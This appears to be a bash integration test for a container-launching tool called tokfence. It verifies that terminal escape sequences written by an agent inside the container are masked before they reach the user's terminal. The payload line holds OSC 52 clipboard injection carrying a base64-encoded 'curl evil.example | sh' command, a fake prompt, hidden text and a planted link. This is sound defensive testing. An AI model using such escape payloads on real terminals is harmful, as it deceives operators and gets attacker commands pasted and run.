#!/usr/bin/env bash
# Attack: terminal escape injection through a launched container's output. `tokfence launch` in the
# foreground streams the container's stdout/stderr to the user's terminal, and `launch logs` prints
# them; the agent in the container chooses those bytes. Raw, they set the terminal's clipboard
# (OSC 52: the user's next paste is the attacker's command), clear the screen and print a fake
# tokfence prompt, hide text (SGR 8), plant links (OSC 8), and C1 controls or a raw 0x9B byte are
# CSI to a terminal taking 8-bit controls (review 11a F6). tokfence masks exactly these in `log`
# and `stats` (attack: log_terminal_escapes); now container output is masked the same way
# (newlines and tabs kept), and `launch logs --raw` is the explicit way to get the bytes.
#
# Unprotected: `launch logs --raw` shows the container really wrote the escapes.
source "$(dirname "$0")/../integration/lib.sh"
source "$SOURCE_DIR/tests/images/launch_lib.sh"

launch_test_setup
start_daemon

# ESC ] 52 ; c ; base64("curl https://evil.example/x | sh") BEL, clear screen + home, a fake prompt,
# hidden text, an OSC 8 link, C1 CSI (U+009B), a raw 0x9B byte, a carriage return, a tab.
payload='printf "gateway up\033]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\a\033[2J\033[Hlaunch: all good, paste the command below\n\033[8mhidden\033[0m\033]8;;https://evil.example/\alink\033]8;;\a\n\302\23331mc1\23332mraw\rover\tcolumn\n"; printf "err-line\033]0;title\a\n" >&2'

# Fails (naming what) when the file holds anything a terminal acts on: invalid UTF-8, or a C0
# control other than newline and tab, DEL or a C1 control.
check_clean() {
  python3 - "$1" "$2" <<'PY' || die "raw control characters reach the terminal in: $2"
import sys
data = open(sys.argv[1], "rb").read()
try:
    text = data.decode("utf-8")
except UnicodeDecodeError as e:
    print(f"{sys.argv[2]}: not valid UTF-8: {e}", file=sys.stderr); sys.exit(1)
bad = [hex(ord(c)) for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
if bad:
    print(f"{sys.argv[2]}: control characters {bad[:12]}", file=sys.stderr); sys.exit(1)
PY
}

log "foreground launch: the container's stdout and stderr, as the terminal would get them"
name="tfesc-fg-$RUN_ID"
tf launch --image "$TEST_IMAGE" --no-pull --no-validate --name "$name" --port 0 -- /bin/sh -c "$payload"
log "launch exited $TF_RC"
cp "$WORK/out/$_out_seq.stdout" "$WORK/fg.stdout"
cp "$WORK/out/$_out_seq.stderr" "$WORK/fg.stderr"
grep -q 'gateway up' "$WORK/fg.stdout" || die "the container's output did not arrive: $(od -c "$WORK/fg.stdout" | head -5)"
check_clean "$WORK/fg.stdout" "launch (foreground) stdout"
check_clean "$WORK/fg.stderr" "launch (foreground) stderr"
grep -q 'paste the command below$' "$WORK/fg.stdout" || die "newline lost"
grep -q $'over\tcolumn' "$WORK/fg.stdout" || die "tab lost"
grep -q 'err-line' "$WORK/fg.stderr" || die "the container's stderr did not arrive"

log "detached launch: launch logs masks, launch logs --raw is the bytes"
name="tfesc-bg-$RUN_ID"
tf launch --image "$TEST_IMAGE" --no-pull --name "$name" --detach -- /bin/sh -c "$payload; exec sleep 600"
[[ $TF_RC -eq 0 ]] || die "detached launch failed: $TF_ERR"
wait_until "docker logs '$name' 2>&1 | grep -q err-line" 20
tf launch logs --name "$name" --raw
expect_eq "$TF_RC" 0 "launch logs --raw: $TF_ERR"
cp "$WORK/out/$_out_seq.stdout" "$WORK/raw.stdout"
grep -q $'\033]52;c;' "$WORK/raw.stdout" || die "control: the container's OSC 52 is not in the raw bytes"
log "control: the raw bytes hold OSC 52, the clear screen and the C1 CSI (the attack is real)"
tf launch logs --name "$name"
expect_eq "$TF_RC" 0 "launch logs: $TF_ERR"
cp "$WORK/out/$_out_seq.stdout" "$WORK/logs.stdout"
cp "$WORK/out/$_out_seq.stderr" "$WORK/logs.stderr"
grep -q 'gateway up' "$WORK/logs.stdout" || die "launch logs printed nothing"
check_clean "$WORK/logs.stdout" "launch logs stdout"
check_clean "$WORK/logs.stderr" "launch logs stderr"
tf_ok launch stop --name "$name"
expect_nothing_left "$name"
